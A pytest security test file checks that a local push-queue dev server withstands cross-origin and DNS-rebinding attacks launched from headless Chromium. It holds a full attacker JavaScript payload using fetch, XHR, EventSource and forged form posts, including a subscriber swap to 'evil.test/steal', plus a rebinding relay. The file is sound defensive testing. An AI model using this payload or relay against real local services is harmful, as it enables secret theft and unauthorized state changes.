"""Another site's page in a real headless Chromium can neither read nor change the dev server.

Two attackers (issue 19, N3), both against a dev server with default settings (no token):

- **another origin**: a page served from another port of 127.0.0.1 (another origin, the same
  site) — what any local web app, or a page opened from a local file server, is;
- **DNS rebinding**: a page of ``evil.test`` whose name then resolves to the dev server, so
  the page and the dev server share an origin in the browser's eyes and only the ``Host``
  header tells them apart. Chromium's ``--host-resolver-rules`` maps ``evil.test`` to
  127.0.0.1, where :class:`Rebinding` listens: its first answer is the attacker's document
  (what evil.test served before its name was re-pointed), every later connection is piped,
  byte for byte, to the dev server (what the re-pointed name reaches). The document comes
  from a loopback address, as in a rebinding against a local page or a browser without
  Private Network Access (Chromium's own check blocks a *public* page's requests to
  loopback, which would hide what the dev server does).

Each page tries everything at once — ``fetch`` (simple and preflighted), ``XMLHttpRequest``,
an HTML form's POST, ``EventSource`` — against ``/_dev/reset``, the other ``/_dev`` endpoints
and the v3 API (post a message, update a queue, read the queue with its subscriber secret),
and reports what it could read. Afterwards the state, read through the API, is unchanged.
"""

from __future__ import annotations

import os
import socket
import socketserver
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from access_kit import EVIL_HOST, KEEP, PUSH, SECRET, fingerprint, populate
from playwright.sync_api import Browser, Page, sync_playwright
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse
from starlette.routing import Route as StarletteRoute

from ironpush.devserver import DevServer
from ironpush.server_thread import ServerThread

CHROMIUM = "/usr/bin/chromium"
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    f"--host-resolver-rules=MAP {EVIL_HOST} 127.0.0.1",
]
TIMEOUT_MS = 30_000

# The attacker's script: every way a page can call the dev server, each outcome recorded.
# `base` is the dev server's URL as the page names it; the form posts go to hidden iframes.
ATTACK = """
async (base) => {
  const results = {};
  const note = (name, value) => { results[name] = value; };
  const attempt = async (name, run) => {
    try { note(name, await run()); } catch (e) { note(name, "error: " + e.name); }
  };
  const api = base + "/3/projects/dev/queues";
  const post = JSON.stringify({messages: [{body: "posted by another site"}]});
  // Reads first (the secret is there to steal), then every kind of write.
  await attempt("read queue with secret", async () =>
    await (await fetch(api + "/PUSH")).text());
  await attempt("read state", async () => await (await fetch(base + "/_dev/state")).text());
  await attempt("read deliveries", async () =>
    await (await fetch(base + "/_dev/deliveries")).text());
  await attempt("read inspector", async () => await (await fetch(base + "/_dev/ui")).text());
  await attempt("event stream", () => new Promise((done) => {
    const source = new EventSource(base + "/_dev/events?after=0");
    const got = [];
    source.onmessage = (e) => got.push(e.data);
    source.addEventListener("hello", (e) => got.push(e.data));
    source.onerror = () => { source.close(); done("closed after " + got.length + " frames"); };
    setTimeout(() => { source.close(); done("open with " + got.length + " frames"); }, 5000);
  }));
  await attempt("fetch reset (no-cors)", async () =>
    (await fetch(base + "/_dev/reset", {method: "POST", mode: "no-cors"})).type);
  await attempt("fetch reset (cors)", async () =>
    (await fetch(base + "/_dev/reset", {method: "POST"})).status);
  await attempt("fetch expire", async () => (await fetch(base + "/_dev/expire", {
    method: "POST", body: '{"project": "dev", "queue": "KEEP", "message_id": "1"}'})).status);
  await attempt("fetch post message (simple)", async () => (await fetch(api + "/KEEP/messages", {
    method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: post})).type);
  await attempt("fetch post message (json)", async () => (await fetch(api + "/KEEP/messages", {
    method: "POST", headers: {"Content-Type": "application/json"}, body: post})).status);
  await attempt("fetch clear queue", async () => (await fetch(api + "/KEEP/messages", {
    method: "DELETE", body: "{}"})).status);
  await attempt("xhr update queue", () => new Promise((done) => {
    const xhr = new XMLHttpRequest();
    xhr.open("PATCH", api + "/KEEP");
    xhr.setRequestHeader("Content-Type", "application/json");
    xhr.onload = () => done("status " + xhr.status);
    xhr.onerror = () => done("error");
    xhr.send(JSON.stringify({queue: {message_timeout: 31}}));
  }));
  await attempt("xhr replace subscribers", () => new Promise((done) => {
    const xhr = new XMLHttpRequest();
    xhr.open("POST", api + "/PUSH/subscribers");
    xhr.onload = () => done("status " + xhr.status);
    xhr.onerror = () => done("error");
    xhr.send(JSON.stringify({subscribers: [{name: "s", url: "http://evil.test/steal"}]}));
  }));
  const submit = (name, action, fields) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = name;
    document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.action = action;
    form.target = name;
    form.enctype = "text/plain";
    for (const [key, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      input.name = key;
      input.value = value;
      form.appendChild(input);
    }
    document.body.appendChild(form);
    frame.onload = () => done("submitted");
    form.submit();
  });
  await attempt("form reset", () => submit("f1", base + "/_dev/reset", {x: "1"}));
  await attempt("form post message", () => submit("f2", api + "/KEEP/messages",
    {'{"messages": [{"body": "form", "x": "': '"}]}'}));
  return results;
}
""".replace("KEEP", KEEP).replace("PUSH", PUSH)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    assert os.path.exists(CHROMIUM), f"{CHROMIUM} is missing: apt-get install -y chromium"
    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=FLAGS)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    tab = context.new_page()
    tab.set_default_timeout(TIMEOUT_MS)
    yield tab
    context.close()


@pytest.fixture
def dev() -> Iterator[DevServer]:
    with DevServer() as server:  # the defaults: any token, 127.0.0.1
        yield server


@pytest.fixture
def other_site() -> Iterator[str]:
    """A web site on another port of 127.0.0.1: another origin."""

    async def home(request: Request) -> HTMLResponse:
        return HTMLResponse("<!doctype html><title>another site</title><body></body>")

    with ServerThread(Starlette(routes=[StarletteRoute("/", home)])) as site:
        yield site.url + "/"


class Rebinding(socketserver.ThreadingTCPServer):
    """The re-pointed name: the attacker's page once, then a byte pipe to the dev server."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, target_port: int) -> None:
        super().__init__(("127.0.0.1", 0), _RebindingHandler)
        self.target_port = target_port
        self.served_page = threading.Event()
        self.piped = 0  # connections handed to the dev server

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class _RebindingHandler(socketserver.BaseRequestHandler):
    server: Rebinding

    def handle(self) -> None:
        client: socket.socket = self.request
        if not self.server.served_page.is_set():
            client.recv(65536)  # GET /attack.html: answered whatever it asks, then closed
            page = b"<!doctype html><title>evil.test</title><body></body>"
            head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
            client.sendall(head + b"Content-Length: %d\r\n\r\n" % len(page) + page)
            self.server.served_page.set()
            return
        self.server.piped += 1
        with socket.create_connection(("127.0.0.1", self.server.target_port)) as upstream:
            back = threading.Thread(target=_pipe, args=(upstream, client), daemon=True)
            back.start()
            _pipe(client, upstream)
            back.join(30)


def _pipe(source: socket.socket, sink: socket.socket) -> None:
    try:
        while data := source.recv(65536):
            sink.sendall(data)
        sink.shutdown(socket.SHUT_WR)
    except OSError:  # the other side went away: the connection is over
        pass


@pytest.fixture
def rebinding(dev: DevServer) -> Iterator[Rebinding]:
    server = Rebinding(dev.port)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join(10)


def _attack(page: Page, base: str) -> dict[str, Any]:
    results: dict[str, Any] = page.evaluate(ATTACK, base)
    return results


def _assert_nothing_read(results: dict[str, Any]) -> None:
    text = " ".join(str(value) for value in results.values())
    assert SECRET not in text
    assert '"projects"' not in text  # /_dev/state
    assert '"deliveries"' not in text
    assert "<html" not in text.lower()  # the inspector


def test_a_page_of_another_origin_can_neither_read_nor_change_anything(
    dev: DevServer, page: Page, other_site: str
) -> None:
    populate(dev)
    before = fingerprint(dev)
    page.goto(other_site)

    results = _attack(page, dev.url)

    _assert_nothing_read(results)
    assert results["event stream"].startswith("closed after 0")
    readable = [k for k, v in results.items() if isinstance(v, int) or v.startswith("status")]
    assert readable == []  # no answer crossed over: CORS (and the 403s behind it)
    assert fingerprint(dev) == before


def test_a_dns_rebinding_page_can_neither_read_nor_change_anything(
    dev: DevServer, page: Page, rebinding: Rebinding
) -> None:
    populate(dev)
    before = fingerprint(dev)
    rebound = f"http://{EVIL_HOST}:{rebinding.port}"
    page.goto(f"{rebound}/attack.html")

    results = _attack(page, rebound)  # same-origin for the browser: only Host tells

    _assert_nothing_read(results)
    assert results["read queue with secret"].startswith('{"msg":"unexpected Host')
    assert results["read state"].startswith('{"msg":"unexpected Host')
    assert results["event stream"].startswith("closed after 0")
    assert results["fetch reset (cors)"] == 403  # it reached the dev server, which refused
    assert rebinding.piped > 0
    assert fingerprint(dev) == before
